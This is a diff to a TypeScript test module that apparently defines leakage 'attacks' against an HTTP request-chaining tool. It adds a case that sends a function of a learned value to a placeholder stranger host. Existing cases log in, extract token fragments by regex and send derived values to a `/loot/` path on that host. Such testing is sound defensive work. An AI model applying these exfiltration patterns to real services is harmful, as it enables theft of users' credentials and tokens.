@@ -1,5 +1,5 @@
 /** Attacks that compute with a secret, or with what followed from one: functions and variables of requests. */
-import { login, PASSWORD, send, type Attack, type AttackGroup, type Setup } from './attack';
+import { learn, login, PASSWORD, send, type Attack, type AttackGroup, type Setup } from './attack';
 import type { Stage } from './stage';
 
 /** Each function, given the variable `v`. */
@@ -99,6 +99,13 @@ const WAYS: readonly (readonly [name: string, setup: (stage: Stage) => Setup])[]
         { ...login, extract: [{ variable: 'piece', from: 'body', regex: '"token":"(.{7})' }] },
         send(`${stranger}/loot/{{$length piece}}`),
       ],
+      chain: withConstants({}),
+    }),
+  ],
+  [
+    'the kind of random data',
+    ({ stranger }) => ({
+      requests: [learn('link', { regex: '"(url)"' }), send(`${stranger}/loot/{{$random piece}}`)],
       chain: withConstants({}),
     }),
   ],
